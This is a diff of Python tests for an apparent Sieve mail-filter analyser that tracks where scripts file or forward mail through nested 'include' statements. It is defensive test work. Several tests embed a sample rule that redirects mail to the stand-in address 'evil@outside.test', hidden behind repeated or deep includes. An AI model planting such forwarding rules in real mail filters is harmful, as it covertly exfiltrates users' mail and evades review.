@@ -90,3 +90,35 @@ def test_a_redirect_is_seen_behind_any_complete_command(before: list[str]) -> No
 def test_it_names_the_folders_that_mail_is_filed_into() -> None:
     script = 'fileinto :copy :flags "\\\\Seen" "RSS"; fileinto "RSS"; set "f" "x"; fileinto "${f}";'
     assert effects(script).folders == ("RSS", "")
+
+
+def test_a_script_that_includes_itself_a_hundred_times_is_read_once_a_level() -> None:
+    script = 'include "a"; ' * 100 + 'redirect "evil@outside.test";'
+    reads: list[str] = []
+
+    def include(name: str) -> str:
+        reads.append(name)
+        return script
+
+    assert read_script(script, include).targets == ("evil@outside.test",)
+    assert len(reads) == 1
+
+
+def test_more_includes_than_anybody_needs_count_as_outside() -> None:
+    script = " ".join(f'include "s{number}";' for number in range(60))
+    reads: list[str] = []
+
+    def include(name: str) -> str:
+        reads.append(name)
+        return "keep;"
+
+    assert read_script(script, include).targets == ("",)
+    assert len(reads) == 50
+
+
+def test_an_include_read_at_the_deepest_level_first_is_followed_from_a_higher_one() -> None:
+    chain = {f"s{number}": f'include "s{number + 1}";' for number in range(9)} | {"s9": 'include "last";'}
+    others = chain | {"last": 'redirect "evil@outside.test";'}
+    assert read_script('include "s0"; include "s9";', lambda name: others.get(name, "")).targets == (
+        "evil@outside.test",
+    )
